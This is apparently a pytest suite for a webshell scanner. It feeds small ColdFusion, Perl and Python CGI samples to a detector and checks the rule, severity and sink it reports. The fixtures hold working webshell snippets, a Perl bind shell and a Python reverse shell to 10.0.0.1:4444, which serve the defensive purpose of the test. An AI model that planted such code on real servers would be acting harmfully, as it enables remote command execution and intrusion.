"""The ColdFusion, Perl CGI and Python CGI reader: sources, sinks and benign look-alikes, written here."""

import time

import pytest

from agent.imagegate import webshell
from agent.imagegate.webshell import THRESHOLD, Limits
from agent.vocab import Severity


def shell(text, name):
    hits = webshell.scan(name, text.encode())
    assert hits and hits[0].confidence >= THRESHOLD, hits
    assert hits[0].snippet and hits[0].sink
    return hits[0]


def benign(text, name):
    hits = webshell.scan(name, text.encode())
    assert not webshell.is_shell(hits), hits


# --- ColdFusion ------------------------------------------------------------------------------

def test_cfexecute_of_form_data():
    h = shell('<cfif isDefined("form.cmd")><cfexecute name="#form.cmd#" arguments="#form.args#" timeout="5"'
              ' variable="o"></cfexecute><cfoutput>#o#</cfoutput></cfif>', "x.cfm")
    assert h.rule == "cfm.request-to-exec" and h.severity == Severity.CRITICAL and "form.cmd" in h.source


def test_cfexecute_arguments_from_url_and_cfset():
    h = shell('<cfset c = url.c><cfexecute name="cmd.exe" arguments="/c #c#" variable="o" timeout="9"/>', "x.cfm")
    assert h.rule == "cfm.request-to-exec"


def test_evaluate_and_cfscript_runtime():
    h = shell('<cfoutput>#evaluate(url.e)#</cfoutput>', "x.cfm")
    assert h.rule == "cfm.request-to-eval"
    h = shell('<cfscript>rt = createObject("java", "java.lang.Runtime").getRuntime();'
              ' p = rt.exec(form.cmd);</cfscript>', "x.cfm")
    assert h.rule == "cfm.request-to-exec"


def test_cffile_write_and_manager():
    h = shell('<cffile action="write" file="#form.path#" output="#form.body#">', "x.cfm")
    assert h.rule == "cfm.request-to-file-write"
    h = shell('<cffile action="delete" file="#form.p#"><cffile action="rename" source="#form.s#"'
              ' destination="#form.d#"><cfdirectory action="list" directory="#url.dir#" name="l">', "x.cfm")
    assert h.rule == "cfm.file-manager"


def test_cfml_sql_console_and_reader():
    h = shell('<cfquery name="q" datasource="#form.ds#">#form.sql#</cfquery><cfdump var="#q#">', "x.cfm")
    assert h.rule == "cfm.sql-console"
    h = shell('<cffile action="read" file="#form.f#" variable="m"><cfdirectory directory="#form.d#" name="l">',
              "x.cfm")
    assert h.rule == "cfm.file-manager"


def test_cfml_benign_page():
    benign('<cfparam name="url.id" default="0"><cfquery name="q" datasource="db">select * from t where id ='
           ' <cfqueryparam value="#url.id#" cfsqltype="cf_sql_integer"></cfquery>'
           '<cfoutput query="q">#q.title#</cfoutput><cfexecute name="/usr/bin/uptime" variable="u"/>', "x.cfm")


# --- Perl ------------------------------------------------------------------------------------

@pytest.mark.parametrize("body", [
    'my $c = param("cmd"); system($c);',
    'my $q = CGI->new; my $c = $q->param("cmd"); print `$c 2>&1`;',
    'my $c = $ENV{"QUERY_STRING"}; $c =~ s/%20/ /g; print qx{$c};',
    'read(STDIN, $buf, $ENV{CONTENT_LENGTH}); open(P, "$buf |"); print <P>;',
    'my $c = param("code"); eval $c;',
    'my %in; foreach my $p (split(/&/, $ENV{QUERY_STRING})) { my ($k, $v) = split(/=/, $p); $in{$k} = $v; }'
    ' exec $in{"c"};',
])
def test_perl_sources_and_sinks(body):
    h = shell("#!/usr/bin/perl\nuse CGI qw(:standard);\nprint header;\n" + body + "\n", "x.cgi")
    assert h.language == "perl" and h.severity == Severity.CRITICAL


def test_perl_bind_shell():
    h = shell('#!/usr/bin/perl\nuse Socket;\nsocket(S, PF_INET, SOCK_STREAM, getprotobyname("tcp"));\n'
              'bind(S, sockaddr_in(4444, INADDR_ANY)); listen(S, 1); accept(C, S);\n'
              'open(STDIN, "<&C"); open(STDOUT, ">&C"); exec("/bin/sh -i");\n', "x.pl")
    assert h.rule.startswith("perl.") and h.confidence >= 0.85


def test_perl_cgi_printing_params_is_benign():
    benign('#!/usr/bin/perl\nuse CGI;\nmy $q = CGI->new;\nprint $q->header;\n# system() is not used here\n'
           'my $n = $q->param("name");\nprint "Hello ", $q->escapeHTML($n), "\\n";\n'
           'open(my $fh, "<", "/etc/motd"); print <$fh>; system("/usr/bin/logger", "visit");\n'
           '=pod\n\nsystem(param("x"));\n\n=cut\n', "x.cgi")


# --- Python ----------------------------------------------------------------------------------

@pytest.mark.parametrize("body", [
    'form = cgi.FieldStorage()\nos.system(form.getvalue("c"))',
    'c = os.environ["QUERY_STRING"]\nprint(subprocess.check_output(c, shell=True))',
    'data = sys.stdin.read()\nexec(data)',
    'c = cgi.FieldStorage().getfirst("c")\nprint(os.popen(f"{c} 2>&1").read())',
])
def test_python_sources_and_sinks(body):
    h = shell("#!/usr/bin/env python3\nimport cgi, os, subprocess, sys\n" + body + "\n", "x.py")
    assert h.language == "python" and h.severity == Severity.CRITICAL


def test_python_reverse_shell():
    h = shell('import socket, subprocess\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n'
              's.connect(("10.0.0.1", 4444))\nwhile True:\n    c = s.recv(1024)\n'
              '    s.send(subprocess.check_output(c, shell=True))\n', "x.py")
    assert h.rule.startswith("python.")


def test_python_cgi_printing_params_is_benign():
    benign('import cgi, html, subprocess\nform = cgi.FieldStorage()\nname = form.getvalue("name", "")\n'
           'print("Content-Type: text/html\\n")\nprint("<p>Hello %s</p>" % html.escape(name))\n'
           'subprocess.run(["/usr/bin/logger", "visit"])\n', "x.py")


# --- hostile input ---------------------------------------------------------------------------

@pytest.mark.parametrize("name,data", [
    ("x.cfm", b"<cfset a = " + b"(" * 100000 + b">"),
    ("x.cfm", b"#" * 300000),
    ("x.pl", b'my $x = "' + b"$a{" * 100000),
    ("x.pl", b"qq{" * 100000),
    ("x.pl", bytes(range(256)) * 4000),
    ("x.py", b"x = (" * 100000),
    ("x.py", b'"""' + b"a" * (2 * 1024 * 1024 - 10)),
    ("x.py", bytes(range(256)) * 4000),
])
def test_hostile_inputs_are_bounded(name, data):
    t = time.process_time()
    webshell.scan(name, data, Limits(max_seconds=2.0))
    assert time.process_time() - t < 6.0


def test_perl_open3_shell_fed_from_the_request():
    h = shell('#!/usr/bin/perl\nuse CGI; use IPC::Open3;\nmy $q = CGI->new; my $c = $q->param("c");\n'
              'my $pid = open3(\\*W, \\*R, \\*E, "/bin/sh"); print W "$c\\n"; close(W);\n', "x.cgi")
    assert h.sink in ("IPC::Open3", "system")
